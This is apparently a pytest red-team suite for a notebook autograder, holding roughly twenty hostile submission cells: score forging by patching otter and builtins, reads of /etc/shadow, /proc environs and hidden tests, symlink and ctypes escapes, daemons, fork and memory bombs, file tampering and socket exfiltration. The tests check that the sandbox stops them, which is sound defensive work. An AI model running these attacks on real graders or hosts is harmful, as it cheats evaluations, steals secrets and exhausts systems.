"""Red team: a class of hostile submissions, graded by the real `sinorussia grade`.

Each attack is a blank student notebook plus one cell of attack code, written as a student who
wants a better grade (or someone else's secrets) would write it. The whole class, with three
honest students, is graded in ONE run (module fixture); each test then checks one attack on
the results: it earns nothing beyond the blank notebook's 0, leaks no canary (a secret in the
grader's environment, a line of the hidden tests, another student's notebook, a file outside),
changes no file outside its scratch, leaves no process behind, and the honest students keep
their scores. A few attacks need a run of their own (SIGKILL of the grader, huge files).

Exfiltration channel the attacks use: they put what they stole into ``answer_q4``; the public
test of q4 quotes that value in the feedback file (``answer_q4 is '...'``), so anything stolen
would show in the feedback or the gradebook.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from sinorussia import ROOT, exercises

pytestmark = pytest.mark.grading

EXERCISE = "02-record-trade"
TIMEOUT = 20
ENV_CANARY = "canary-env-" + secrets.token_hex(8)
FILE_CANARY = "canary-file-" + secrets.token_hex(8)
PEER_CANARY = "canary-peer-" + secrets.token_hex(8)
HIDDEN_LINE = "totals[2023] - totals[2022]"      # in the master's solution and hidden test only
MASTER = exercises.MASTERS_DIR / f"{EXERCISE}.ipynb"


def sinorussia_command() -> list[str]:
    script = Path(sys.executable).with_name("sinorussia")
    return [str(script)] if script.exists() else [sys.executable, "-m", "sinorussia.cli"]


def blank():
    return nbformat.read(exercises.EXERCISES_DIR / EXERCISE / f"{EXERCISE}.ipynb", as_version=4)


def with_cell(source: str, nb=None):
    nb = copy.deepcopy(nb if nb is not None else blank())
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


# Steal: look for any canary in a text; if found, hand it out through answer_q4.
STEAL = f"""
import os, re
CANARIES = {[ENV_CANARY, FILE_CANARY, PEER_CANARY, HIDDEN_LINE]!r}
stolen = []
def look(text):
    if isinstance(text, bytes):
        text = text.decode('utf-8', 'replace')
    for c in CANARIES:
        if c in str(text):
            stolen.append(c)
def attempt(f, *a, **k):
    try:
        look(f(*a, **k))
    except BaseException as e:
        pass
def read(path, **k):
    with open(path, 'rb', **k) as h:
        return h.read()
"""
LEAK = "\nanswer_q4 = ' '.join(stolen) or 'nothing'\n"


def attacks(paths: dict[str, str], port: int) -> dict[str, str]:
    """{name: attack code}; ``paths`` are the real locations, as a determined attacker would know them."""
    p = {k: repr(v) for k, v in paths.items()}
    every = [paths["master"], paths["git"], paths["secret"], paths["peer"], paths["cache"], paths["gradebook"]]
    return {
        # --- forging a score in-process ---------------------------------------------------------
        "forge_otter": """
import otter, otter.test_files, otter.test_files.abstract_test as at
for cls in (otter.test_files.ExceptionTestFile, otter.test_files.OKTestFile, at.TestFile):
    cls.score = property(lambda self: 100)
    cls.possible = property(lambda self: 100)
    cls.run = lambda self, env: None
    cls.all_or_nothing = True
otter.Notebook.check = lambda *a, **k: None
try:
    import otter.execute.checker as ch
    ch.Checker.get_results = classmethod(lambda cls: {})
except Exception:
    pass
""",
        "always_equal": """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __sub__(self, other): return Anything(0)
    __rsub__ = __sub__
    def __abs__(self): return Anything(0)
    def __hash__(self): return 0
class AnyStr(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def __contains__(self, item): return True
class AnyChart:
    def to_dict(self, *a, **k):
        return {"mark": "line", "encoding": {"x": {"field": "year"}, "y": {"field": "value_usd_bn"}},
                "title": "t", "datasets": {"d": Anything(0)}}
growth_usd_bn = growth_usd_pct = balance_2023_bn = cny_rate_2023 = Anything(5)
answer_q4 = article_currency = AnyStr("Z")  # its own value is wrong; it claims to equal anything
chart = AnyChart()
""",
        "patched_builtins": """
import builtins, numbers
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
builtins.all = lambda *a: True
builtins.hasattr = lambda o, n: n == 'to_dict'
builtins.sorted = lambda *a, **k: [2014, 2015, 2016, 2017, 2018, 2019, 2020, 2021, 2022, 2023, 2024]
builtins.AssertionError = type('Nothing', (Exception,), {})
numbers.Real.register(type(...))
""",
        "fake_results": f"""
import os, json
forged = {{"scores": {{"q1": 2, "q2": 1, "q3": 2, "q4": 1, "q5": 2}}, "type": "result", "token": "x"}}
line = ("ANSWERS " + json.dumps({{"answers": {{}}, "scores": forged["scores"], "errors": []}}) + "\\n").encode()
for name in ("results.json", "results.pkl", "/tmp/results.json", "../results.json", {p['gradebook']}):
    try:
        open(name, "w").write(json.dumps(forged))
    except OSError:
        pass
for fd in range(0, 64):
    try:
        os.write(fd, line)
    except OSError:
        pass
os._exit(0)
""",
        # --- reading what is not theirs, by every path form ----------------------------------------
        "read_absolute": STEAL + f"""
for path in {every!r} + ['/proc/1/environ', '/proc/self/environ', '/etc/shadow', '/root/.bash_history']:
    attempt(read, path)
    attempt(lambda: os.listdir(os.path.dirname(path)))
import sinorussia
attempt(read, os.path.join(str(sinorussia.ROOT), 'exercises', 'masters', '{EXERCISE}.ipynb'))
attempt(read, os.path.join(str(sinorussia.ROOT), '.git'))
""" + LEAK,
        "read_relative": STEAL + f"""
for up in range(1, 8):
    prefix = '../' * up
    for rel in ({os.path.relpath(paths['master'], '/')!r}, {os.path.relpath(paths['peer'], '/')!r},
                {os.path.relpath(paths['secret'], '/')!r}, 'exercises/masters/{EXERCISE}.ipynb'):
        attempt(read, prefix + rel)
""" + LEAK,
        "read_dir_fd": STEAL + f"""
root = os.open('/', os.O_RDONLY)
for path in {every!r}:
    def via_fd(path=path):
        fd = os.open(path.lstrip('/'), os.O_RDONLY, dir_fd=root)
        return os.read(fd, 10_000_000)
    attempt(via_fd)
    attempt(lambda path=path: os.listdir(os.open(os.path.dirname(path).lstrip('/'), os.O_RDONLY, dir_fd=root)))
""" + LEAK,
        "read_symlink": STEAL + f"""
for n, path in enumerate({every!r}):
    try:
        os.symlink(path, f'link{{n}}')
        os.link(path, f'hard{{n}}')
    except OSError:
        pass
    attempt(read, f'link{{n}}')
    attempt(read, f'hard{{n}}')
""" + LEAK,
        "read_ctypes": STEAL + f"""
import ctypes, ctypes.util
libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
for path in {every!r} + ['/proc/1/environ']:
    fd = libc.open(path.encode(), 0)
    if fd >= 0:
        buf = ctypes.create_string_buffer(1 << 20)
        n = libc.read(fd, buf, len(buf))
        look(buf.raw[:max(n, 0)])
for number in (56, 57, 58):          # clone, fork, vfork (x86_64), straight through syscall()
    pid = libc.syscall(number, 17, 0, 0, 0, 0)
    if pid == 0:
        libc._exit(0)
""" + LEAK,
        "read_environment": STEAL + """
look(os.environ)
for pid in os.listdir('/proc'):
    if pid.isdigit():
        attempt(read, f'/proc/{pid}/environ')
        attempt(read, f'/proc/{pid}/cmdline')
        attempt(lambda: os.listdir(f'/proc/{pid}/root/'))
attempt(read, '/proc/self/root/../../../proc/1/environ')
""" + LEAK,
        # --- outliving the run ---------------------------------------------------------------------
        "daemon_double_fork": f"""
import os, time, subprocess
def later():
    time.sleep(2)
    for target in ({p['escape']}, {p['gradebook']}):
        try:
            open(target, 'w').write('the daemon was here')
        except OSError:
            pass
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            later()
        os._exit(0)
except OSError:
    pass
for argv in (['sh', '-c', 'sleep 2; echo x > ' + {p['escape']}], ['setsid', 'sleep', '30']):
    try:
        subprocess.Popen(argv, start_new_session=True)
    except OSError:
        pass
import multiprocessing
try:
    multiprocessing.Process(target=later, daemon=False).start()
except Exception:
    pass
""",
        "thread_after_run": f"""
import threading, time
def later():
    time.sleep(2)
    try:
        open({p['escape']}, 'w').write('thread')
    except OSError:
        pass
threading.Thread(target=later).start()
""",
        # --- floods and bombs ------------------------------------------------------------------
        "flood_stdout": """
import os, sys
for _ in range(200):
    print('x' * 1_000_000)
for fd in (1, 2):
    for _ in range(200):
        os.write(fd, b'y' * 1_000_000)
""",
        "flood_channel": """
import os
chunk = b'z' * 1_000_000
for _ in range(64):
    for fd in range(3, 12):
        try:
            os.write(fd, chunk)
        except OSError:
            pass
""",
        "huge_answer": "answer_q4 = 'B' * 30_000_000\n",
        "disk_fill": f"""
import os
for folder in ('.', '/tmp', '/dev/shm', '/', {p['outside']}):
    for n in range(40):
        try:
            with open(os.path.join(folder, f'fill{{n}}'), 'wb') as h:
                for _ in range(32):
                    h.write(b'0' * 1_000_000)
        except OSError:
            break
""",
        "memory_bomb": """
hog = []
try:
    while True:
        hog.append(bytearray(100_000_000))
except MemoryError:
    pass
import numpy as np
big = np.ones((100_000, 100_000))
""",
        "fork_bomb": """
import os, threading, time
for _ in range(100_000):
    try:
        os.fork()
    except OSError:
        break
threads = []
try:
    for _ in range(100_000):
        t = threading.Thread(target=time.sleep, args=(1,))
        t.start()
        threads.append(t)
except (RuntimeError, MemoryError):
    pass
""",
        # --- tampering ---------------------------------------------------------------------------
        "tamper_files": f"""
import os, sinorussia, otter
targets = [{p['peer']}, {p['gradebook']}, {p['master']}, os.path.join({p['cache']}, 'tests', 'q1.py'),
           os.path.join(os.path.dirname(sinorussia.__file__), 'data.py'),
           os.path.join(os.path.dirname(otter.__file__), 'test_files', 'exception_test.py'),
           os.path.join(str(sinorussia.DATA_DIR), 'trade_usd.csv')]
for target in targets:
    for mode in ('w', 'a'):
        try:
            open(target, mode).write('tampered')
        except OSError:
            pass
    try:
        os.remove(target)
    except OSError:
        pass
""",
        # --- the network ---------------------------------------------------------------------------
        "network": f"""
import socket
for family, address in ((socket.AF_INET, ('127.0.0.1', {port})), (socket.AF_INET6, ('::1', {port}))):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(open({p['master']}, 'rb').read() if False else b'hidden tests here')
    except OSError:
        pass
try:
    socket.socket(socket.AF_UNIX).connect('/run/docker.sock')
except OSError:
    pass
""",
    }


HONEST = {"alice": None, "bob": "half", "quentin": []}   # full, partial, blank


def _descendants(pid: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                ppid = int(Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(entry))
    found, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            found.add(child)
            todo.append(child)
    return found


def _grading_processes() -> set[int]:
    """Processes running our runner or bwrap (by command line)."""
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if b"sinorussia.grading.runner" in cmdline or b"sinorussia.grading.scoring" in cmdline:
                found.add(int(entry))
    return {pid for pid in found if not _under_a_running_grader(pid)}


def _under_a_running_grader(pid: int) -> bool:
    """True for a sandbox of a grader still running: another test's, on the other core (this
    test's grader has exited, so a daemon its class left behind hangs from no grader)."""
    while pid > 1:
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except (OSError, IndexError, ValueError):
            return False
        if b"\0grade\0" in cmdline:
            return True
    return False


def checksums(*roots: Path) -> dict[str, str]:
    """Every file under the roots, by content. Python's own bytecode caches are left out: the tests
    running beside this one on the other cores write them when they import the package, and the
    sandbox cannot (the package is mounted read-only, and bytecode writing is off in it)."""
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest()
            for root in roots for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}


class Listener:
    """A loopback TCP server that records every connection made to it."""

    def __init__(self):
        self.server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections, self.stop = [], False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections.append(conn.recv(1000))
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    base = tmp_path_factory.mktemp("redteam")
    subs, outside, grades = base / "submissions", base / "outside", base / "grades"
    for folder in (subs, outside, grades):
        folder.mkdir()
    (outside / "secret.txt").write_text(FILE_CANARY)
    gradebook = grades / "gradebook.csv"
    gradebook.write_text("the previous gradebook\n")
    ids = exercises.answer_cell_ids(EXERCISE)
    for student, which in HONEST.items():
        nb = exercises.answered_version(EXERCISE, ids[:2] if which == "half" else which)
        if student == "alice":
            nb.cells.append(nbformat.v4.new_code_cell(f"# {PEER_CANARY}"))
        (subs / student).mkdir()
        nbformat.write(nb, subs / student / f"{EXERCISE}.ipynb")
    paths = {"master": str(MASTER), "git": str(ROOT / ".git"), "secret": str(outside / "secret.txt"),
             "peer": str(subs / "alice" / f"{EXERCISE}.ipynb"), "cache": str(exercises.AUTOGRADER_CACHE / EXERCISE),
             "gradebook": str(gradebook), "escape": str(outside / "escaped.txt"), "outside": str(outside)}
    listener = Listener()
    codes = attacks(paths, listener.port)
    for name, code in codes.items():
        (subs / name).mkdir()
        nbformat.write(with_cell(code), subs / name / f"{EXERCISE}.ipynb")
    protected = [subs, outside, exercises.MASTERS_DIR, exercises.AUTOGRADER_CACHE / EXERCISE,
                 ROOT / "sinorussia", ROOT / "data"]
    before = checksums(*protected)
    processes_before = _grading_processes()
    env = dict(os.environ, SINORUSSIA_CANARY=ENV_CANARY)
    started = time.monotonic()
    done = subprocess.run([*sinorussia_command(), "grade", str(subs), "--out", str(gradebook),
                           "--timeout", str(TIMEOUT), "--jobs", "2"],
                          capture_output=True, text=True, timeout=900, env=env)
    seconds = time.monotonic() - started
    rows = {r["student"]: r for r in csv.DictReader(gradebook.open())} if done.returncode == 0 else {}
    gradebook_after_run = gradebook.read_bytes()
    time.sleep(3)   # daemons would strike now, a second or two after the grader is gone
    listener.close()
    feedback = {p.name: p.read_text() for p in gradebook.with_name("gradebook-feedback").glob("*.txt")}
    yield {"done": done, "rows": rows, "feedback": feedback, "listener": listener, "seconds": seconds,
           "before": before, "after": checksums(*protected), "outside": outside, "gradebook": gradebook,
           "gradebook_after_run": gradebook_after_run, "names": list(codes),
           "new_processes": _grading_processes() - processes_before, "subs": subs}


def test_the_hostile_class_is_graded(hostile):
    assert hostile["done"].returncode == 0, hostile["done"].stderr[-3000:]
    assert set(hostile["rows"]) == set(hostile["names"]) | set(HONEST)
    assert hostile["seconds"] < 240, hostile["seconds"]


def test_honest_students_keep_their_scores(hostile):
    rows = hostile["rows"]
    possible = float(rows["alice"]["possible"])
    assert float(rows["alice"]["total"]) == possible > 0
    assert 0 < float(rows["bob"]["total"]) < possible
    assert float(rows["quentin"]["total"]) == 0


ATTACK_STATUS = {   # what each attack ends as; None: any status, the score is what matters
    "forge_otter": "ok", "always_equal": "ok",
    "flood_channel": "flood", "huge_answer": "flood", "memory_bomb": "errors", "fork_bomb": None,
}


@pytest.mark.parametrize("attack", list(attacks({k: "/x" for k in ("master", "git", "secret", "peer", "cache",
                                                                   "gradebook", "escape", "outside")}, 1)))
def test_attack_earns_nothing_and_leaks_nothing(hostile, attack):
    row = hostile["rows"][attack]
    blank_total = float(hostile["rows"]["quentin"]["total"])
    assert float(row["total"]) <= blank_total, (attack, row)
    if ATTACK_STATUS.get(attack):
        assert row["status"] == ATTACK_STATUS[attack], (attack, row["status"], row["message"])
    text = json.dumps(row) + hostile["feedback"].get(f"{attack}__{EXERCISE}.txt", "")
    for canary in (ENV_CANARY, FILE_CANARY, PEER_CANARY, HIDDEN_LINE):
        assert canary not in text, (attack, canary)


def test_nothing_leaks_anywhere(hostile):
    everything = hostile["done"].stderr + hostile["done"].stdout + hostile["gradebook"].read_text() + \
        "".join(hostile["feedback"].values())
    for canary in (ENV_CANARY, FILE_CANARY, HIDDEN_LINE):
        assert canary not in everything, canary
    # alice's own notebook holds the peer canary; no feedback shows it (feedback never quotes notebooks)
    assert PEER_CANARY not in everything
    assert "def test_" not in everything and "hidden: true" not in everything


def test_no_file_outside_the_scratch_changed(hostile):
    assert hostile["after"] == hostile["before"]
    assert sorted(p.name for p in hostile["outside"].iterdir()) == ["secret.txt"]


def test_no_daemon_touched_the_gradebook_after_the_run(hostile):
    assert hostile["gradebook"].read_bytes() == hostile["gradebook_after_run"]
    assert b"the daemon was here" not in hostile["gradebook"].read_bytes()


def test_no_process_is_left(hostile):
    assert not hostile["new_processes"]


def test_nothing_reached_the_network(hostile):
    assert hostile["listener"].connections == []


def test_floods_say_what_happened(hostile):
    for attack in ("flood_channel", "huge_answer"):
        assert "flood" in hostile["rows"][attack]["message"]
    assert hostile["rows"]["flood_stdout"]["status"] in ("ok", "errors")


# --- runs of their own ---------------------------------------------------------------------------

def _max_rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return 0.0


def test_huge_and_malformed_notebooks_cost_the_grader_little(tmp_path):
    subs = tmp_path / "subs"
    for student in ("huge", "nested", "notjson", "badcells", "badutf8", "hugesource"):
        (subs / student).mkdir(parents=True)
    nb = blank()
    nb.cells[-1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 100_000_000)]
    nbformat.write(nb, subs / "huge" / f"{EXERCISE}.ipynb")
    (subs / "nested" / f"{EXERCISE}.ipynb").write_text("[" * 200_000 + "]" * 200_000)
    (subs / "notjson" / f"{EXERCISE}.ipynb").write_bytes(b"\x00\xff" * 1000)
    (subs / "badcells" / f"{EXERCISE}.ipynb").write_text(json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "source": {"x": 1}}]}))
    (subs / "badutf8" / f"{EXERCISE}.ipynb").write_bytes(b'{"cells": ["\xff\xfe"]}')
    big = with_cell("x = 1\n" * 3_000_000)   # ~18 MB of source: above the cap, refused unread
    nbformat.write(big, subs / "hugesource" / f"{EXERCISE}.ipynb")
    out = tmp_path / "gradebook.csv"
    process = subprocess.Popen([*sinorussia_command(), "grade", str(subs), "--out", str(out)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    peak = 0.0
    while process.poll() is None:
        try:
            peak = max(peak, _max_rss_mb(process.pid))
        except OSError:
            pass
        time.sleep(0.05)
    _, err = process.communicate()
    assert process.returncode == 0, err[-2000:]
    rows = {r["student"]: r for r in csv.DictReader(out.open())}
    assert {r["status"] for r in rows.values()} == {"invalid"}, rows
    assert "MB limit" in rows["huge"]["message"] and "MB limit" in rows["hugesource"]["message"]
    assert peak < 400, f"the grader peaked at {peak:.0f} MB"


def test_sigkill_of_the_grader_leaves_no_process_and_no_file(tmp_path):
    subs = tmp_path / "subs"
    for student in ("loop1", "loop2"):
        (subs / student).mkdir(parents=True)
        nbformat.write(with_cell("while True:\n    pass"), subs / student / f"{EXERCISE}.ipynb")
    temp = tmp_path / "tmp"
    temp.mkdir()
    out = tmp_path / "grades" / "gradebook.csv"
    out.parent.mkdir()
    out.write_text("previous\n")
    process = subprocess.Popen([*sinorussia_command(), "grade", str(subs), "--out", str(out), "--timeout", "120"],
                               stderr=subprocess.PIPE, text=True, env=dict(os.environ, TMPDIR=str(temp)))
    assert "grading 2 file" in process.stderr.readline()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(_descendants(process.pid)) < 4:
        time.sleep(0.2)
    time.sleep(1.0)
    family = _descendants(process.pid)
    assert family, "the grader started no sandbox"
    process.send_signal(signal.SIGKILL)
    process.wait()
    process.stderr.close()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(Path(f"/proc/{pid}").exists() for pid in family):
        time.sleep(0.2)
    assert not [pid for pid in family if Path(f"/proc/{pid}").exists()]
    assert list(temp.iterdir()) == []
    assert sorted(p.name for p in out.parent.iterdir()) == ["gradebook.csv"]
    assert out.read_text() == "previous\n"


def test_the_checks_have_teeth_without_the_sandbox(tmp_path):
    """The same theft, graded with --unsafe-no-sandbox, does leak: the checks above can fail."""
    subs = tmp_path / "subs"
    (subs / "thief").mkdir(parents=True)
    code = STEAL + f"attempt(read, {str(MASTER)!r})\nlook(os.environ)\n" + LEAK
    nbformat.write(with_cell(code), subs / "thief" / f"{EXERCISE}.ipynb")
    out = tmp_path / "gradebook.csv"
    done = subprocess.run([*sinorussia_command(), "grade", str(subs), "--out", str(out), "--unsafe-no-sandbox"],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    feedback = (tmp_path / "gradebook-feedback" / f"thief__{EXERCISE}.txt").read_text()
    assert HIDDEN_LINE in feedback
